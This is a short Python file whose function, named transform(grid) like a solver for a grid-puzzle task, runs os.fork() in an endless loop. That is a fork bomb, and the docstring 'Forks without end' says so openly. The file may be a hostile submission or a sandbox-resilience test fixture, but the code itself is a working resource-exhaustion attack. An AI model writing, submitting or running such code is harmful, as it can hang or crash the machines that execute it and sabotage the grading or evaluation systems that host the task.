# ruff: noqa
"""Forks without end."""

import os


def transform(grid):
    while True:
        os.fork()
